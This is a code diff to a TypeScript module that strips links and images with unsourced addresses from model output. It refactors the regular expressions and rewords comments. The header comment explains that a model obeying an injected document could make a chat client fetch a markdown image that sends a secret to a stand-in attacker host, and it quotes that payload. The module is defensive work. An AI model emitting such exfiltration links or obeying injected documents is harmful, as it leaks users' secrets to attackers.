@@ -1,6 +1,6 @@
 /**
- * Links and images whose address stands in none of the sources become plain text. A model that
- * obeys an injected document could otherwise have a chat client fetch
+ * Turns links and images whose address no source holds into plain text. A model that obeys an
+ * injected document could otherwise make a chat client fetch
  * `![x](https://evil.example/?d=secret)`, or lead a reader astray.
  */
 
@@ -11,7 +11,9 @@ export interface Edit {
   readonly text: string;
 }
 
-const URL = '(?:https?:\\/\\/|www\\.|ftp:\\/\\/|mailto:)[^\\s<>`"“”)\\]]{1,1500}';
+export const URL_START = "(?:https?:\\/\\/|www\\.|ftp:\\/\\/|mailto:)";
+/** One character of a bare address. */
+export const IN_URL = '[^\\s<>`"“”)\\]]';
 /**
  * 1 label and 2 address of a link or an image; 3 label and 4 address of a link definition;
  * 5 address between angle brackets; 6 a tag that fetches or links; 7 a bare address.
@@ -21,7 +23,7 @@ const LINK = new RegExp(
     `|(?<=^|\\n)[^\\S\\n]{0,3}\\[([^\\]\\n]{1,300})\\]:[^\\S\\n]{1,5}<?((?:[a-z]{2,10}:|\\/\\/|www\\.)[^\\s>]{1,1500})>?` +
     `|<((?:[a-z]{2,10}:|[^\\s<>@]{1,64}@)[^\\s<>]{1,1500})>` +
     `|(<[a-z][^<>]{0,60}?\\b(?:src|srcset|href|action|poster|data|style|background|on[a-z]{2,20})\\s{0,5}=[^<>]{0,1500}>)` +
-    `|(${URL}|(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
+    `|(${URL_START}${IN_URL}{1,1500}|(?<![\\p{L}\\p{N}._%+-])[\\p{L}\\p{N}._%+-]{1,64}@[\\p{L}\\p{N}-]{1,63}(?:\\.[\\p{L}\\p{N}-]{2,63}){1,5})`,
   "giu",
 );
 
@@ -43,7 +45,7 @@ export function foreignLinks(text: string, sources: readonly string[]): Edit[] {
   });
 }
 
-/** Applies edits that lie within `from` to `to`; of two that overlap the first holds. */
+/** Applies the edits between `from` and `to`; of two that overlap, the first wins. */
 export function applyEdits(
   text: string,
   edits: readonly Edit[],
@@ -61,8 +63,8 @@ export function applyEdits(
 }
 
 /**
- * Places of a text where brackets and addresses mean nothing to us: code and formulas. Decided by
- * what stands before the place alone, so that a streamed text is read like a whole one.
+ * Tells places in code and formulas, where brackets and addresses are left alone, by the text before
+ * them only, so that a streamed text is read like a whole one.
  */
 export function quietPlaces(text: string): (at: number) => boolean {
   const fences = [...text.matchAll(/^[^\S\n]*(?:```|~~~|\$\$|\\\[|\\\])/gmu)].map(
